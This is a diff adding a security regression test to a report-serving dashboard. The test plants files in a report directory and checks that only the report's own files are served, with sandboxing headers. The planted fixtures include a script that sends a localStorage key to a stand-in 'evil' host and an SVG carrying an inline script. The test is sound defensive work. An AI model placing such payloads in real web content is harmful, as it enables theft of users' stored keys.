@@ -151,6 +151,49 @@ def test_the_latest_report_is_linked_and_served_read_only(engine: Engine, tmp_pa
         assert client.get("/reports/latest/%2e%2e/secret.md").status_code == 404
 
 
+def test_only_the_files_the_report_wrote_are_served_and_none_runs(
+    engine: Engine, tmp_path: Path, keys: dict
+) -> None:
+    """Any .html/.md/.json/.csv under the report's directory was served, an HTML file running on the
+    dashboard's origin (where the key is stored); now only the report's own files, shown, never run."""
+    from types import SimpleNamespace
+
+    from calibrate.report.latest import record_latest, reports_root
+
+    settings = advisor_settings(tmp_path)
+    out = tmp_path / "report-1"
+    (out / "figures").mkdir(parents=True)
+    (out / "report.md").write_text("# Characterization\n")
+    (out / "numbers.json").write_text("{}\n")
+    (out / "figures" / "q1.png").write_bytes(b"\x89PNG\r\n")
+    planted = {
+        "steal.html": "<script>fetch('//evil/'+localStorage.key(0))</script>",
+        "notes.md": "not the report's",
+        "rows.csv": "a,b\n",
+        "figures/q2.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+    }
+    for name, text in planted.items():
+        (out / name).write_text(text)
+    report = SimpleNamespace(
+        out_dir=out, report_md=out / "report.md", numbers_json=out / "numbers.json",
+        figures={"q1": out / "figures" / "q1.png", "q2": out / "figures" / "q2.svg", "none": None},
+        generated_at="2026-11-29T12:00:00Z", source="sample",
+    )  # fmt: skip
+    record_latest(report, reports_root(settings))
+    with TestClient(create_app(settings, engine)) as client:
+        for name in planted:  # q2.svg is even in the pointer: an SVG may carry a script, so never
+            assert client.get(f"/reports/latest/{name}").status_code == 404, name
+        for name, media in (("report.md", "text/plain"), ("numbers.json", "application/json"),
+                            ("figures/q1.png", "image/png")):  # fmt: skip
+            served = client.get(f"/reports/latest/{name}")
+            assert served.status_code == 200 and served.headers["content-type"].startswith(media), name
+            assert "sandbox" in served.headers["content-security-policy"]
+            assert served.headers["x-content-type-options"] == "nosniff"
+        for page in ("/", "/static/app.js"):
+            policy = client.get(page).headers["content-security-policy"]
+            assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy, page
+
+
 def test_finetwin_up_hands_out_a_first_key_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     from finetwin.wiring import build_api_app
 
